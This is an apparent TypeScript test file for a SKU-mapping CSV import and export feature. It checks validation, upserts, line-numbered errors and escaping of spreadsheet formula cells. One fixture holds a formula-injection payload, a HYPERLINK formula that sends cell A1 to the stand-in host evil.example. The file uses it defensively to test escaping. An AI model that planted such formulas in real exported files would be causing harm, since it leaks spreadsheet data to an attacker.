import { and, eq } from "drizzle-orm";
import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { getDb } from "@/db/client";
import { skuMappings } from "@/db/schema";
import { createSku, createTenant, type TestTenant } from "@/e2e/support/factories";
import { cliActor } from "@/lib/audit/record";
import { exportSkuMapCsv, importSkuMapCsv, parseSkuMapCsv, SKU_MAP_CSV_HEADER } from "./csv";
import { allMappings, resolveChannelSkus, upsertMapping } from "./mappings";

const IMPORTER = cliActor("csv-test");

async function mappingsOf(tenant: TestTenant) {
  return getDb()
    .select()
    .from(skuMappings)
    .where(and(eq(skuMappings.accountId, tenant.accountId), eq(skuMappings.environment, tenant.environment)));
}

async function tenantWithSkus() {
  const tenant = await createTenant();
  await createSku(tenant, "TEE-RED-M");
  await createSku(tenant, "TEE-BLUE-M");
  return tenant;
}

describe("SKU map CSV import", () => {
  it("imports a good file: numeric and gid variant ids, active defaulting to true", async () => {
    const tenant = await tenantWithSkus();
    const file = [
      SKU_MAP_CSV_HEADER,
      "SHOP-RED,44556677,TEE-RED-M,WH-RED-01,",
      "SHOP-BLUE,gid://shopify/ProductVariant/44556688,TEE-BLUE-M,,false",
      ",44556699,TEE-BLUE-M,,true",
      "",
    ].join("\n");
    const result = await importSkuMapCsv(getDb(), tenant.ctx, IMPORTER, file);
    expect(result).toMatchObject({ ok: true, total: 3, created: 3, updated: 0 });
    const rows = await mappingsOf(tenant);
    expect(rows.map((r) => [r.channelSku, r.variantId, r.warehouseItemCode, r.active]).sort()).toEqual(
      [
        ["SHOP-RED", "gid://shopify/ProductVariant/44556677", "WH-RED-01", true],
        ["SHOP-BLUE", "gid://shopify/ProductVariant/44556688", null, false],
        [null, "gid://shopify/ProductVariant/44556699", null, true],
      ].sort(),
    );
    expect(rows.every((r) => r.lastVerifiedAt !== null && !r.needsVerification)).toBe(true);
    const resolved = await resolveChannelSkus(getDb(), tenant.ctx, [
      { variantId: "gid://shopify/ProductVariant/44556677", channelSku: "renamed" },
      { variantId: null, channelSku: "SHOP-RED" },
      { variantId: null, channelSku: "SHOP-BLUE" },
      { variantId: null, channelSku: "TEE-BLUE-M" },
      { variantId: null, channelSku: "NOPE" },
    ]);
    expect(resolved.map((r) => r?.sku ?? null)).toEqual(["TEE-RED-M", "TEE-RED-M", null, "TEE-BLUE-M", null]);
  });

  it("importing again upserts by variant id or channel SKU instead of duplicating", async () => {
    const tenant = await tenantWithSkus();
    await importSkuMapCsv(getDb(), tenant.ctx, IMPORTER, `${SKU_MAP_CSV_HEADER}\nSHOP-RED,111,TEE-RED-M,,\n`);
    const again = await importSkuMapCsv(getDb(), tenant.ctx, IMPORTER, `${SKU_MAP_CSV_HEADER}\nSHOP-RED,,TEE-BLUE-M,CODE-9,false\n`);
    expect(again).toMatchObject({ ok: true, created: 0, updated: 1 });
    const rows = await mappingsOf(tenant);
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({ channelSku: "SHOP-RED", variantId: "gid://shopify/ProductVariant/111", warehouseItemCode: "CODE-9", active: false });
  });

  it("a bad file applies nothing and names every bad row by line number (header = line 1)", async () => {
    const tenant = await tenantWithSkus();
    const file = [
      SKU_MAP_CSV_HEADER, // 1
      "GOOD-1,1001,TEE-RED-M,,", // 2
      ",,TEE-RED-M,,", // 3: no key
      "BAD-SKU,1003,NOT-A-SKU,,", // 4: unknown account SKU
      "GOOD-2,abc,TEE-RED-M,,", // 5: bad variant id
      "", // 6: blank, skipped
      "GOOD-3,1006,TEE-BLUE-M,,maybe", // 7: bad active
      "GOOD-1,1008,TEE-BLUE-M,,", // 8: duplicate channel_sku of line 2
      "TOO,FEW", // 9
    ].join("\n");
    const result = await importSkuMapCsv(getDb(), tenant.ctx, IMPORTER, file);
    expect(result.ok).toBe(false);
    if (result.ok) return;
    expect(result.errors.map((e) => e.line)).toEqual([3, 4, 5, 7, 8, 9]);
    expect(result.errors.find((e) => e.line === 4)?.message).toContain("NOT-A-SKU");
    expect(result.errors.find((e) => e.line === 8)?.message).toContain("line 2");
    expect(await mappingsOf(tenant)).toHaveLength(0);
  });

  it("a wrong header is refused on line 1", async () => {
    const tenant = await tenantWithSkus();
    const result = await importSkuMapCsv(getDb(), tenant.ctx, IMPORTER, "sku,account_sku\nA,TEE-RED-M\n");
    expect(result).toMatchObject({ ok: false, errors: [{ line: 1 }] });
    expect(await mappingsOf(tenant)).toHaveLength(0);
  });

  it("counts lines across quoted fields that span lines", () => {
    const { rows, errors } = parseSkuMapCsv(`${SKU_MAP_CSV_HEADER}\r\n"A\r\nB",1,X,,\r\n,,X,,\r\n`);
    expect(rows[0]).toMatchObject({ line: 2, channelSku: "A\r\nB" });
    expect(errors).toEqual([expect.objectContaining({ line: 4 })]);
  });

  it("reports progress through validation and apply", async () => {
    const tenant = await tenantWithSkus();
    const lines = Array.from({ length: 450 }, (_, i) => `CH-${i},,TEE-RED-M,,`);
    const seen: string[] = [];
    const result = await importSkuMapCsv(getDb(), tenant.ctx, IMPORTER, [SKU_MAP_CSV_HEADER, ...lines].join("\n"), { onProgress: (p) => seen.push(`${p.phase}:${p.done}/${p.total}`) });
    expect(result).toMatchObject({ ok: true, created: 450 });
    expect(seen).toEqual(["validating:200/450", "validating:400/450", "validating:450/450", "applying:200/450", "applying:400/450", "applying:450/450"]);
  });

  it("exports a file the import takes back unchanged", async () => {
    const tenant = await tenantWithSkus();
    const file = `${SKU_MAP_CSV_HEADER}\n"SHOP,RED",777,TEE-RED-M,WH-1,true\nSHOP-BLUE,,TEE-BLUE-M,,false\n`;
    await importSkuMapCsv(getDb(), tenant.ctx, IMPORTER, file);
    const exported = await exportSkuMapCsv(getDb(), tenant.ctx);
    expect(exported).toBe(`${SKU_MAP_CSV_HEADER}\n"SHOP,RED",777,TEE-RED-M,WH-1,true\nSHOP-BLUE,,TEE-BLUE-M,,false\n`);
    expect(await importSkuMapCsv(getDb(), tenant.ctx, IMPORTER, exported)).toMatchObject({ ok: true, created: 0, updated: 2 });
  });

  describe("cells a spreadsheet would run as formulas", () => {
    // Values as a channel or warehouse may really send them, stored as they are (the mapping form keeps them).
    const stored: [channelSku: string, accountSku: string, warehouseItemCode: string | null][] = [
      ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "-5", "@SUM(1+1)"],
      ["+61400000000", "TEE-RED-M", "\tTABBED"],
      ["\rCR-LEAD", "@HOME", null],
      ["'=already-quoted", "TEE-RED-M", "''+twice"],
      ["'plain-quote", "TEE-RED-M", "A-1=2"],
    ];
    const accountSkus = [...new Set(stored.map(([, accountSku]) => accountSku))];

    async function tenantWithFormulaMap() {
      const tenant = await createTenant();
      const skuIds = new Map<string, string>();
      for (const sku of accountSkus) skuIds.set(sku, (await createSku(tenant, sku)).id);
      for (const [channelSku, accountSku, warehouseItemCode] of stored) {
        await upsertMapping(getDb(), tenant.ctx, { channelSku, variantId: null, skuId: skuIds.get(accountSku) as string, warehouseItemCode, active: true });
      }
      return tenant;
    }

    const mapOf = async (tenant: TestTenant) => (await allMappings(getDb(), tenant.ctx)).map((r) => [r.channelSku, r.sku, r.warehouseItemCode]);

    it("the export puts a single quote before every cell starting with = + - @ tab or CR, and quotes it", async () => {
      const tenant = await tenantWithFormulaMap();
      const exported = await exportSkuMapCsv(getDb(), tenant.ctx);
      const cells = Papa.parse<string[]>(exported, { skipEmptyLines: true }).data.slice(1).flat();
      expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
      expect(exported.split("\n")).toEqual(
        expect.arrayContaining([
          `"'=HYPERLINK(""http://evil.example/?x=""&A1,""open"")",,"'-5","'@SUM(1+1)",true`,
          `"'+61400000000",,TEE-RED-M,"'\tTABBED",true`,
          `"''=already-quoted",,TEE-RED-M,"'''+twice",true`,
          `'plain-quote,,TEE-RED-M,A-1=2,true`,
        ]),
      );
      expect(exported).toContain(`"'\rCR-LEAD",,"'@HOME",,true`);
    });

    it("importing the export gives back every value exactly, and exporting that gives the same file", async () => {
      const source = await tenantWithFormulaMap();
      const exported = await exportSkuMapCsv(getDb(), source.ctx);
      const target = await createTenant();
      for (const sku of accountSkus) await createSku(target, sku);
      expect(await importSkuMapCsv(getDb(), target.ctx, IMPORTER, exported)).toMatchObject({ ok: true, created: stored.length });
      expect(await mapOf(target)).toEqual(await mapOf(source));
      expect((await mapOf(target)).sort()).toEqual(stored.map(([c, a, w]) => [c, a, w]).sort());
      expect(await exportSkuMapCsv(getDb(), target.ctx)).toBe(exported);
    });

    it("the import reads one leading quote before a formula character as the export's escape, and keeps any other quote", () => {
      const { rows, errors } = parseSkuMapCsv(`${SKU_MAP_CSV_HEADER}\n'=A,,'-B,'@C,\n'plain,,'x,,\n`);
      expect(errors).toEqual([]);
      expect(rows.map((r) => [r.channelSku, r.accountSku, r.warehouseItemCode])).toEqual([
        ["=A", "-B", "@C"],
        ["'plain", "'x", null],
      ]);
    });
  });
});
